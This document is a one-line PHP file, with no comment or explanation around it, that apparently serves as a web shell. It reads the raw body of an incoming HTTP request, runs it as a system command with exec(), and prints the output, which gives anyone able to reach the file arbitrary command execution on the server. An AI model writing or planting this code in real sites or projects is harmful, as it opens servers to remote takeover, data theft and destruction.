<?php exec(file_get_contents('php://input'), $o); print_r($o);
